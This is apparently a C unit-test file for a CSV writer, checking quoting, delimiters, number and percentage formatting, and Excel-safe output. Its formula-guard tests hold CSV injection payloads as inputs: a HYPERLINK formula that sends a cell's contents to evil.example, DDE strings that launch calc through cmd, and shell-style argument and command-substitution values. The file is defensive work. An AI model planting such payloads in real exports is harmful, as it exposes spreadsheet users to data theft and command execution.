#include "table/csvout.h"

#include <string.h>

#include "base/buf.h"
#include "helpers.h"
#include "suites.h"
#include "table/csvin.h"
#include "table/dialect.h"

static void
assert_row(char delimiter, bool excel, const char *const *cells, const char *expected)
{
	struct buf b = {0};
	struct csvout out;
	csvout_start(&out, &b, delimiter, excel);
	for (size_t i = 0; cells[i]; i++)
		csvout_str(&out, cells[i]);
	csvout_end(&out);
	ck_assert_str_eq(buf_str(&b), expected);
	buf_free(&b);
}

#define CELLS(...) ((const char *const[]){__VA_ARGS__, NULL})

START_TEST(quotes_only_where_it_must)
{
	assert_row(',', false, CELLS("a", "", "b c", " d ", "'e'", "f;g"), "a,,b c, d ,'e',f;g\n");
	assert_row(',', false, CELLS("a,b", "12\" pipe", "x\ny", "x\r", "\"\"", "z"),
	    "\"a,b\",\"12\"\" pipe\",\"x\ny\",\"x\r\",\"\"\"\"\"\",z\n");
	assert_row(',', false, CELLS("\"", "a\"b\"c"), "\"\"\"\",\"a\"\"b\"\"c\"\n");
	assert_row(',', false, CELLS("\t", "caf\xe9"), "\t,caf\xe9\n");
}
END_TEST

START_TEST(any_delimiter)
{
	assert_row(';', false, CELLS("a,b", "c;d", "e"), "a,b;\"c;d\";e\n");
	assert_row('\t', false, CELLS("a,b", "c\td", "e"), "a,b\t\"c\td\"\te\n");
	assert_row('|', false, CELLS("a|b", ""), "\"a|b\"|\n");
}
END_TEST

START_TEST(delimiters_of_figures)
{
	struct buf b = {0};
	struct csvout out;
	csvout_start(&out, &b, '.', false);
	csvout_units(&out, -150, 2);
	csvout_units(&out, 7, 0);
	csvout_decimal(&out, dec("2.5"), 0);
	csvout_end(&out);
	csvout_start(&out, &b, '5', false);
	csvout_units(&out, 5, 0);
	csvout_units(&out, 1234, 2);
	csvout_decimal(&out, dec("25"), 0);
	csvout_end(&out);
	ck_assert_str_eq(buf_str(&b), "\"-1.50\".7.\"2.5\"\n\"5\"512.345\"25\"\n");
	buf_free(&b);
}
END_TEST

START_TEST(formulas_stay_without_excel)
{
	assert_row(',', false, CELLS("=1+1", "-rf", "@x"), "=1+1,-rf,@x\n");
}
END_TEST

#define MARK "\xef\xbb\xbf"

START_TEST(excel_guards_formulas)
{
	assert_row(',', true, CELLS("=1+1"), MARK "'=1+1\r\n");
	assert_row(',', true, CELLS("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
	    MARK "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"\r\n");
	assert_row(',', true, CELLS("+1+cmd|' /C calc'!A0"), MARK "'+1+cmd|' /C calc'!A0\r\n");
	assert_row(',', true, CELLS("@SUM(1+1)*cmd|' /C calc'!A0"), MARK "'@SUM(1+1)*cmd|' /C calc'!A0\r\n");
	assert_row(',', true, CELLS("\r=1+1"), MARK "\"'\r=1+1\"\r\n");
	assert_row(',', true, CELLS("\n=1+1"), MARK "\"'\n=1+1\"\r\n");
	assert_row(',', true, CELLS("\t=1+1"), MARK "'\t=1+1\r\n");
	assert_row(',', true, CELLS("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20x"), MARK "'\uff1d1+1,'\uff0b1+1,'\uff0d1+1,'\uff20x\r\n");
	assert_row(',', true, CELLS("-oQ/tmp -X/tmp/x", "-rf", "--><x/>", "-1+1", "+A1", "-A1", "=", "@"),
	    MARK "'-oQ/tmp -X/tmp/x,'-rf,'--><x/>,'-1+1,'+A1,'-A1,'=,'@\r\n");
}
END_TEST

START_TEST(excel_spares_numbers_and_text)
{
	assert_row(',', true, CELLS("-12.50", "-5", "+5", "-1.5E+3", "-5%", "0", ""), MARK "-12.50,-5,+5,-1.5E+3,-5%,0,\r\n");
	assert_row(',', true, CELLS("a=b", "x-y", "12\" pipe", "$(touch x)", "%s%n", "00123"),
	    MARK "a=b,x-y,\"12\"\" pipe\",$(touch x),%s%n,00123\r\n");
}
END_TEST

/* -USD5 is a number for us, and a cell's name for a spreadsheet: its formula yields 0. */
START_TEST(excel_guards_names_of_cells)
{
	assert_row(',', true, CELLS("-ABC12", "+USD5", "-XFD1048576"), MARK "'-ABC12,'+USD5,'-XFD1048576\r\n");
}
END_TEST

START_TEST(excel_ends_lines_for_windows)
{
	struct buf b = {0};
	struct csvout out;
	csvout_start(&out, &b, ';', true);
	csvout_str(&out, "a");
	csvout_str(&out, "b");
	csvout_end(&out);
	csvout_str(&out, "c\nd");
	csvout_end(&out);
	ck_assert_str_eq(buf_str(&b), MARK "a;b\r\n\"c\nd\"\r\n"); /* one mark, at the start */
	buf_free(&b);
}
END_TEST

START_TEST(figures)
{
	struct buf b = {0};
	struct csvout out;
	csvout_start(&out, &b, ',', true);
	csvout_units(&out, -1250, 2); /* a figure of ours is no formula */
	csvout_units(&out, 0, 2);
	csvout_decimal(&out, dec("0.16"), 4);
	csvout_decimal(&out, dec("-24000"), 0);
	csvout_end(&out);
	ck_assert_str_eq(buf_str(&b), MARK "-12.50,0.00,0.1600,-24000\r\n");
	buf_free(&b);
}
END_TEST

START_TEST(percentages)
{
	static const char *const cases[][3] = {
		{"1", "3", "33.33"}, {"2", "3", "66.67"}, {"-1", "3", "-33.33"}, {"-2", "3", "-66.67"}, {"0", "5", "0.00"}, {"5", "0", ""},
		{"0", "0", ""}, {"1", "20000", "0.01"}, {"-1", "20000", "0.00"}, {"-3", "20000", "-0.01"}, {"5", "-2", "-250.00"}, {"7", "7", "100.00"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		struct buf b = {0}, expected = {0};
		struct csvout out;
		csvout_start(&out, &b, ',', false);
		csvout_str(&out, "x");
		csvout_percent(&out, dec(cases[i][0]), dec(cases[i][1]));
		csvout_end(&out);
		buf_printf(&expected, "x,%s\n", cases[i][2]);
		ck_assert_str_eq(buf_str(&b), buf_str(&expected));
		buf_free(&b);
		buf_free(&expected);
	}
}
END_TEST

/* Writes random cells and reads them back. */
static void
there_and_back(struct buf *out, void *arg)
{
	uint64_t seed = 99;
	static const char alphabet[] = "\"\",;\n\r\tx'= ";
	struct buf text = {0}, cells = {0};
	struct csvout csv;
	size_t columns = *(size_t *)arg;
	csvout_start(&csv, &text, ';', false);
	for (size_t row = 0; row < 500; row++) {
		for (size_t column = 0; column < columns; column++) {
			char cell[8];
			size_t n = random_below(&seed, sizeof cell);
			for (size_t i = 0; i < n; i++)
				cell[i] = alphabet[random_below(&seed, sizeof alphabet - 1)];
			csvout_text(&csv, cell, n);
			buf_add(&cells, cell, n);
			buf_putc(&cells, '\0');
		}
		csvout_end(&csv);
	}
	put_file("in.csv", text.data, text.len);
	struct dialect dialect = {.delimiter = ';', .header_row = 1};
	struct csvin *in = csvin_open("in.csv", "in.csv", &dialect);
	struct record r;
	struct buf back = {0};
	size_t rows = 0;
	for (; in && csvin_next(in, &r) == CSVIN_RECORD; rows++)
		for (size_t i = 0; i < r.count; i++) {
			buf_add(&back, r.cells[i].s, r.cells[i].n);
			buf_putc(&back, '\0');
		}
	csvin_close(in);
	buf_printf(out, "%zu rows, %s", rows, back.len == cells.len && memcmp(back.data, cells.data, cells.len) == 0 ? "same" : "changed");
	buf_free(&text);
	buf_free(&cells);
	buf_free(&back);
}

START_TEST(what_is_written_can_be_read)
{
	size_t columns = 3;
	struct ran r = run(there_and_back, &columns);
	ck_assert_str_eq(r.out, "500 rows, same");
	ran_free(&r);
}
END_TEST

/* A lone empty cell needs its quotes: an empty line is no record. */
START_TEST(one_column_can_be_read_back)
{
	size_t columns = 1;
	struct ran r = run(there_and_back, &columns);
	ck_assert_str_eq(r.out, "500 rows, same");
	ran_free(&r);
}
END_TEST

Suite *
csvout_suite(void)
{
	Suite *s = suite_create("csvout");
	TCase *t = tcase_create("csvout");
	tcase_set_timeout(t, 60);
	tcase_add_test(t, quotes_only_where_it_must);
	tcase_add_test(t, any_delimiter);
	tcase_add_test(t, delimiters_of_figures);
	tcase_add_test(t, formulas_stay_without_excel);
	tcase_add_test(t, excel_guards_formulas);
	tcase_add_test(t, excel_spares_numbers_and_text);
	tcase_add_test(t, excel_guards_names_of_cells);
	tcase_add_test(t, excel_ends_lines_for_windows);
	tcase_add_test(t, figures);
	tcase_add_test(t, percentages);
	tcase_add_test(t, what_is_written_can_be_read);
	tcase_add_test(t, one_column_can_be_read_back);
	suite_add_tcase(s, t);
	return s;
}
